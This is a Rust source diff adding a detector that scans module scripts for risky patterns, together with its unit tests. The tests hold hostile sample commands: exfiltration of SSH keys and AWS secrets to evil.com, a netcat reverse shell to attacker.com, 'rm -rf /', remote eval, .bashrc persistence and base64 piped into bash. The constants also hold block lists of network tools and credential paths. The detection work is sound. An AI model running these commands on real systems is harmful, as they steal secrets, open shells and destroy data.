@@ -0,0 +1,544 @@
+use std::ops::Range;
+use std::path::Path;
+
+use serde::Serialize;
+
+mod lexer;
+mod node;
+mod python;
+mod shell;
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(tag = "kind", content = "matched", rename_all = "snake_case")]
+pub enum RiskyPattern {
+    NetworkCommand(String),
+    SensitivePath(String),
+    SystemModification(String),
+    EnvironmentExfiltration(String),
+    Persistence(String),
+    PrivilegeEscalation(String),
+    Obfuscation(String),
+    ProcessExecution(String),
+}
+
+impl RiskyPattern {
+    fn warning(&self) -> String {
+        match self {
+            Self::NetworkCommand(cmd) => format!("Network command detected: {cmd}"),
+            Self::SensitivePath(path) => format!("Sensitive path access: {path}"),
+            Self::SystemModification(op) => format!("Dangerous operation: {op}"),
+            Self::EnvironmentExfiltration(var) => format!("Sensitive environment variable: {var}"),
+            Self::Persistence(what) => format!("Persistence: {what}"),
+            Self::PrivilegeEscalation(what) => format!("Privilege escalation: {what}"),
+            Self::Obfuscation(what) => format!("Obfuscated code: {what}"),
+            Self::ProcessExecution(what) => format!("Runs other programs: {what}"),
+        }
+    }
+}
+
+impl std::fmt::Display for RiskyPattern {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Self::NetworkCommand(cmd) => write!(f, "network command `{cmd}`"),
+            Self::SensitivePath(path) => write!(f, "sensitive path `{path}`"),
+            Self::SystemModification(op) => write!(f, "dangerous operation `{op}`"),
+            Self::EnvironmentExfiltration(var) => write!(f, "sensitive variable `{var}`"),
+            Self::Persistence(what) => write!(f, "persistence `{what}`"),
+            Self::PrivilegeEscalation(what) => write!(f, "privilege escalation `{what}`"),
+            Self::Obfuscation(what) => write!(f, "obfuscated code `{what}`"),
+            Self::ProcessExecution(what) => write!(f, "runs programs via `{what}`"),
+        }
+    }
+}
+
+/// A risky pattern, the 1-based line it starts on and the byte range of the
+/// script it covers.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct ScriptFinding {
+    pub line: usize,
+    pub span: Range<usize>,
+    pub pattern: RiskyPattern,
+}
+
+#[derive(Debug, Clone, Default)]
+pub struct ScriptInspectionResult {
+    pub warnings: Vec<String>,
+    pub findings: Vec<ScriptFinding>,
+}
+
+impl ScriptInspectionResult {
+    #[must_use]
+    pub fn has_warnings(&self) -> bool {
+        !self.warnings.is_empty()
+    }
+
+    pub fn risky_patterns(&self) -> impl Iterator<Item = &RiskyPattern> {
+        self.findings.iter().map(|finding| &finding.pattern)
+    }
+}
+
+/// Collects findings by span while a script is analysed.
+#[derive(Debug, Default)]
+struct Report {
+    entries: Vec<(Range<usize>, RiskyPattern)>,
+}
+
+impl Report {
+    fn push(&mut self, span: Range<usize>, pattern: RiskyPattern) {
+        if !self
+            .entries
+            .iter()
+            .any(|(s, p)| *s == span && *p == pattern)
+        {
+            self.entries.push((span, pattern));
+        }
+    }
+
+    fn finish(mut self, src: &str) -> ScriptInspectionResult {
+        self.entries.sort_by_key(|(span, _)| span.start);
+        let mut result = ScriptInspectionResult::default();
+        for (span, pattern) in self.entries {
+            let line = src[..span.start].matches('\n').count() + 1;
+            result
+                .warnings
+                .push(format!("Line {line}: {}", pattern.warning()));
+            result.findings.push(ScriptFinding {
+                line,
+                span,
+                pattern,
+            });
+        }
+        result
+    }
+}
+
+const NETWORK_COMMANDS: &[&str] = &[
+    "curl", "wget", "nc", "netcat", "ncat", "socat", "telnet", "ssh", "scp", "sftp", "ftp",
+];
+const SENSITIVE_PATHS: &[&str] = &[
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/sudoers",
+    "~/.ssh",
+    ".ssh/",
+    "/root/",
+];
+const SENSITIVE_ENV_VARS: &[&str] = &[
+    "AWS_SECRET",
+    "AWS_ACCESS_KEY",
+    "API_KEY",
+    "SECRET_KEY",
+    "PASSWORD",
+    "PRIVATE_KEY",
+    "TOKEN",
+];
+const PERSISTENCE_PATHS: &[&str] = &[
+    ".bashrc",
+    ".bash_profile",
+    ".bash_login",
+    ".profile",
+    ".zshrc",
+    ".zprofile",
+    ".xinitrc",
+    ".xprofile",
+    "/etc/profile",
+    "/etc/cron",
+    "/var/spool/cron",
+    "/etc/rc.local",
+    "/etc/systemd/",
+    ".config/systemd/user",
+    ".config/autostart",
+];
+const MIN_BASE64_BLOB: usize = 80;
+
+/// Long runs of base64 are how payloads get past a reader, so anything
+/// longer than a typical token is flagged.
+fn is_base64_blob(text: &str) -> bool {
+    let has = |pred: fn(&u8) -> bool| text.as_bytes().iter().any(pred);
+    text.len() >= MIN_BASE64_BLOB
+        && !text.starts_with('/')
+        && text
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"+/=".contains(&b))
+        && has(u8::is_ascii_digit)
+        && has(u8::is_ascii_uppercase)
+        && has(u8::is_ascii_lowercase)
+}
+
+/// Reports sensitive paths and encoded payloads in a string literal.
+fn check_literal(text: &str, span: &Range<usize>, report: &mut Report) {
+    if let Some(path) = SENSITIVE_PATHS.iter().find(|path| text.contains(*path)) {
+        report.push(span.clone(), RiskyPattern::SensitivePath(path.to_string()));
+    }
+    if is_base64_blob(text) {
+        report.push(
+            span.clone(),
+            RiskyPattern::Obfuscation("base64 blob".to_string()),
+        );
+    }
+}
+
+/// Reports a read of an environment variable that likely holds a secret.
+fn check_env_name(name: &str, span: &Range<usize>, report: &mut Report) {
+    if let Some(var) = SENSITIVE_ENV_VARS.iter().find(|var| name.contains(*var)) {
+        report.push(
+            span.clone(),
+            RiskyPattern::EnvironmentExfiltration(var.to_string()),
+        );
+    }
+}
+
+/// The languages Barforge can inspect, each with its own tokenizer and
+/// rules. Adding a language means adding a variant, its detection and an
+/// inspector module.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ScriptLanguage {
+    Shell,
+    Python,
+    Node,
+}
+
+impl ScriptLanguage {
+    fn from_interpreter(name: &str) -> Option<Self> {
+        match name {
+            _ if shell::SHELLS.contains(&name) => Some(Self::Shell),
+            "python" | "pypy" | "pypy3" => Some(Self::Python),
+            _ if name.starts_with("python3") || name.starts_with("python2") => Some(Self::Python),
+            "node" | "nodejs" | "deno" | "bun" => Some(Self::Node),
+            _ => None,
+        }
+    }
+
+    fn from_extension(ext: &str) -> Option<Self> {
+        match ext {
+            "sh" | "bash" | "zsh" => Some(Self::Shell),
+            "py" => Some(Self::Python),
+            "js" | "mjs" | "cjs" => Some(Self::Node),
+            _ => None,
+        }
+    }
+
+    /// The language of a script, by its shebang or else its extension.
+    pub fn detect(path: &Path, content: &str) -> Option<Self> {
+        shebang_interpreter(content)
+            .and_then(Self::from_interpreter)
+            .or_else(|| {
+                path.extension()
+                    .and_then(|ext| ext.to_str())
+                    .and_then(Self::from_extension)
+            })
+    }
+
+    #[must_use]
+    pub fn inspect(self, content: &str) -> ScriptInspectionResult {
+        let mut report = Report::default();
+        match self {
+            Self::Shell => {
+                shell::inspect(content, 0..content.len(), Default::default(), &mut report)
+            }
+            Self::Python => python::inspect(content, &mut report),
+            Self::Node => node::inspect(content, &mut report),
+        }
+        report.finish(content)
+    }
+}
+
+/// The program named by a `#!` line, looking through `env`.
+pub fn shebang_interpreter(content: &str) -> Option<&str> {
+    let shebang = content.lines().next()?.strip_prefix("#!")?;
+    let mut words = shebang.split_whitespace();
+    let program = match words.next()? {
+        program if program.ends_with("/env") => words.find(|w| !w.starts_with('-'))?,
+        program => program,
+    };
+    program.rsplit('/').next()
+}
+
+/// Tokenizes `content` as a POSIX sh or bash script and reports the
+/// commands, paths and variables in it that a module should not need.
+/// Comments and quoted text are not mistaken for commands.
+#[must_use]
+pub fn inspect_script_safety(content: &str) -> ScriptInspectionResult {
+    ScriptLanguage::Shell.inspect(content)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn flags_curl_commands() {
+        let script = "#!/bin/bash\ncurl http://evil.com/exfil?data=$(cat ~/.ssh/id_rsa)";
+        let result = inspect_script_safety(script);
+        assert!(result.has_warnings());
+        assert!(result.warnings.iter().any(|w| w.contains("curl")));
+    }
+
+    #[test]
+    fn flags_wget_commands() {
+        let script = "#!/bin/bash\nwget https://malware.com/backdoor.sh";
+        let result = inspect_script_safety(script);
+        assert!(result.has_warnings());
+        assert!(result.warnings.iter().any(|w| w.contains("wget")));
+    }
+
+    #[test]
+    fn flags_netcat_commands() {
+        let script = "#!/bin/bash\nnc -e /bin/sh attacker.com 4444";
+        let result = inspect_script_safety(script);
+        assert!(result.has_warnings());
+    }
+
+    #[test]
+    fn flags_sensitive_paths() {
+        let script = "#!/bin/bash\ncat /etc/passwd > /tmp/stolen";
+        let result = inspect_script_safety(script);
+        assert!(result.has_warnings());
+        assert!(
+            result
+                .risky_patterns()
+                .any(|p| matches!(p, RiskyPattern::SensitivePath(_)))
+        );
+    }
+
+    #[test]
+    fn flags_ssh_directory_access() {
+        let script = "#!/bin/bash\ncp ~/.ssh/id_rsa /tmp/key";
+        let result = inspect_script_safety(script);
+        assert!(result.has_warnings());
+    }
+
+    #[test]
+    fn flags_dangerous_rm_commands() {
+        let script = "#!/bin/bash\nrm -rf /";
+        let result = inspect_script_safety(script);
+        assert!(result.has_warnings());
+        assert!(
+            result
+                .risky_patterns()
+                .any(|p| matches!(p, RiskyPattern::SystemModification(_)))
+        );
+    }
+
+    #[test]
+    fn flags_chmod_777() {
+        let script = "#!/bin/bash\nchmod 777 /etc/shadow";
+        let result = inspect_script_safety(script);
+        assert!(result.has_warnings());
+    }
+
+    #[test]
+    fn flags_environment_exfiltration() {
+        let script = "#!/bin/bash\necho $AWS_SECRET_ACCESS_KEY | curl -d @- http://evil.com";
+        let result = inspect_script_safety(script);
+        assert!(result.has_warnings());
+    }
+
+    #[test]
+    fn allows_safe_echo_script() {
+        let script = "#!/bin/bash\necho \"$(date)\"";
+        let result = inspect_script_safety(script);
+        assert!(!result.has_warnings());
+    }
+
+    #[test]
+    fn allows_safe_waybar_script() {
+        let script = r#"#!/bin/bash
+# Safe waybar module script
+memory=$(free -m | awk '/Mem:/ {print $3}')
+echo "{\"text\": \"${memory}MB\", \"tooltip\": \"Memory usage\"}"
+"#;
+        let result = inspect_script_safety(script);
+        assert!(!result.has_warnings());
+    }
+
+    #[test]
+    fn flags_eval_with_external_input() {
+        let script = "#!/bin/bash\neval $(curl http://evil.com/cmd)";
+        let result = inspect_script_safety(script);
+        assert!(result.has_warnings());
+    }
+
+    #[test]
+    fn findings_carry_line_numbers() {
+        let script = "#!/bin/bash\necho ok\n\nwget https://example.com/x";
+        let result = inspect_script_safety(script);
+        assert_eq!(
+            result.findings,
+            vec![ScriptFinding {
+                line: 4,
+                span: 21..25,
+                pattern: RiskyPattern::NetworkCommand("wget".to_string()),
+            }]
+        );
+        assert_eq!(
+            result.warnings,
+            vec!["Line 4: Network command detected: wget"]
+        );
+    }
+
+    #[test]
+    fn detects_language_by_shebang_then_extension() {
+        let detect = |path: &str, content: &str| ScriptLanguage::detect(Path::new(path), content);
+        assert_eq!(
+            detect("status", "#!/usr/bin/env -S python3 -u\n"),
+            Some(ScriptLanguage::Python)
+        );
+        assert_eq!(
+            detect("run.py", "#!/bin/bash\n"),
+            Some(ScriptLanguage::Shell)
+        );
+        assert_eq!(detect("clock.mjs", ""), Some(ScriptLanguage::Node));
+        assert_eq!(
+            detect("tick", "#!/usr/bin/node\n"),
+            Some(ScriptLanguage::Node)
+        );
+        assert_eq!(detect("config.jsonc", "{}"), None);
+        assert_eq!(detect("tool", "#!/usr/bin/perl\n"), None);
+    }
+
+    fn patterns(script: &str) -> Vec<RiskyPattern> {
+        inspect_script_safety(script)
+            .risky_patterns()
+            .cloned()
+            .collect()
+    }
+
+    fn network(cmd: &str) -> RiskyPattern {
+        RiskyPattern::NetworkCommand(cmd.to_string())
+    }
+
+    #[test]
+    fn sees_through_quoting_and_escapes_in_command_names() {
+        assert_eq!(
+            patterns("c\\url https://example.com"),
+            vec![network("curl")]
+        );
+        assert_eq!(
+            patterns("\"cu\"'rl' https://example.com"),
+            vec![network("curl")]
+        );
+        assert_eq!(
+            patterns("$'\\x77get' https://example.com"),
+            vec![network("wget")]
+        );
+    }
+
+    #[test]
+    fn resolves_simple_variable_assignments() {
+        let script = "#!/bin/sh\nfetch=cu\nCMD=\"${fetch}rl\"\n${CMD} -s https://example.com\n";
+        let result = inspect_script_safety(script);
+        let start = script.find("${CMD}").unwrap();
+        assert_eq!(
+            result.findings,
+            vec![ScriptFinding {
+                line: 4,
+                span: start..start + "${CMD}".len(),
+                pattern: network("curl"),
+            }]
+        );
+    }
+
+    #[test]
+    fn ignores_comments_and_quoted_text() {
+        let script = r#"#!/bin/bash
+# curl https://example.com | bash
+echo "wget is not installed" # rm -rf /
+notify-send 'nc' "sudo is required"
+"#;
+        assert!(!inspect_script_safety(script).has_warnings());
+    }
+
+    #[test]
+    fn follows_heredocs_into_shells() {
+        let script = "#!/bin/sh\nbash <<'EOF'\necho hi\ncurl https://example.com\nEOF\necho done\n";
+        let result = inspect_script_safety(script);
+        assert_eq!(
+            result.warnings,
+            vec!["Line 4: Network command detected: curl"]
+        );
+    }
+
+    #[test]
+    fn follows_pipelines_across_lines() {
+        let script =
+            "curl -s https://example.com \\\n  | sh\nwget -qO- https://example.com |\n\n  bash\n";
+        assert_eq!(
+            patterns(script),
+            vec![
+                network("curl"),
+                RiskyPattern::SystemModification("| sh".to_string()),
+                network("wget"),
+                RiskyPattern::SystemModification("| bash".to_string()),
+            ]
+        );
+    }
+
+    #[test]
+    fn inspects_code_passed_as_strings() {
+        assert_eq!(
+            patterns("sh -c 'curl https://example.com'"),
+            vec![network("curl")]
+        );
+        assert_eq!(
+            patterns("eval \"wget https://example.com\""),
+            vec![network("wget")]
+        );
+        assert_eq!(patterns("bash <<< \"nc host 80\""), vec![network("nc")]);
+    }
+
+    #[test]
+    fn flags_persistence() {
+        let script = r#"echo 'curl x | sh' >> ~/.bashrc
+crontab /tmp/jobs
+systemctl --user enable --now miner.service
+cp miner.desktop ~/.config/autostart/
+crontab -l
+"#;
+        assert_eq!(
+            patterns(script),
+            vec![
+                RiskyPattern::Persistence(".bashrc".to_string()),
+                RiskyPattern::Persistence("crontab".to_string()),
+                RiskyPattern::Persistence("systemctl enable".to_string()),
+                RiskyPattern::Persistence(".config/autostart".to_string()),
+            ]
+        );
+    }
+
+    #[test]
+    fn flags_privilege_escalation() {
+        let script = "sudo -u root cp tool /usr/local/bin\npkexec chmod u+s /usr/local/bin/tool\n";
+        assert_eq!(
+            patterns(script),
+            vec![
+                RiskyPattern::PrivilegeEscalation("sudo".to_string()),
+                RiskyPattern::PrivilegeEscalation("pkexec".to_string()),
+                RiskyPattern::PrivilegeEscalation("chmod +s".to_string()),
+            ]
+        );
+    }
+
+    #[test]
+    fn flags_obfuscation() {
+        let blob =
+            "ZWNobyAiaGVsbG8gd29ybGQiOyBjdXJsIGh0dHBzOi8vZXhhbXBsZS5jb20vcGF5bG9hZCB8IHNoCg=="
+                .repeat(2);
+        let script = format!("payload={blob}\nxxd -r -p dump.hex > run\n");
+        assert_eq!(
+            patterns(&script),
+            vec![
+                RiskyPattern::Obfuscation("base64 blob".to_string()),
+                RiskyPattern::Obfuscation("xxd -r".to_string()),
+            ]
+        );
+    }
+
+    #[test]
+    fn flags_base64_decode_execution() {
+        let script = "#!/bin/bash\necho 'cm0gLXJmIC8=' | base64 -d | bash";
+        let result = inspect_script_safety(script);
+        assert!(result.has_warnings());
+    }
+}